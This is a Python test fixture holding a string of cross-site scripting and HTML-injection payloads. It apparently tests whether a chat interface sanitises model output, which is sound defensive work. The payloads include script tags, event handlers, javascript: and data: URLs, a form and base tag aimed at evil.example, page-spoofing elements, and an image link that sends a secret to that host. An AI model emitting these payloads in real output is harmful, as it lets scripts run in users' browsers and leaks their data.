"""Model output that tries to run scripts, load resources or imitate the chat page."""

from __future__ import annotations

ATTACKS = """Hello <img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3))
![spy](https://evil.example/spy.png?q=secret) ![own](/v1/models)

<svg onload=alert(4)><a xlink:href="javascript:alert(5)"><text>t</text></a></svg> <iframe src="https://evil.example"></iframe>
<a href="JaVaScRiPt:alert(6)">six</a>
<a href="data:text/html,<script>alert(7)</script>">seven</a> <math><mi xlink:href="javascript:alert(8)"></math>

<form action="https://evil.example"><input name=q><button>Send</button></form> <style>body { display: none }</style>
<div id="question" class="fault" style="position:fixed">not the page's</div>
<details open ontoggle=alert(9)><summary>s</summary>d</details>
<a href="https://example.org" target="_self" onclick="alert(10)">ten</a> <video src=x onerror=alert(11)> <base href="https://evil.example/">

<table onclick=alert(15) style="position:fixed"><tr><td colspan="2" onmouseover="alert(16)" id="question" background="https://evil.example/t.png">cell
<img src=x onerror=alert(17)><a href="javascript:alert(18)">link</a>
<td rowspan="1&quot; onclick=alert(19)"><script>alert(20)</script>
<style>body { display: none }</style></td></tr></table>

```html"onmouseover="alert(12)
<img src=x onerror=alert(13)>
```

[ref]

[ref]: javascript:alert(14)
"""
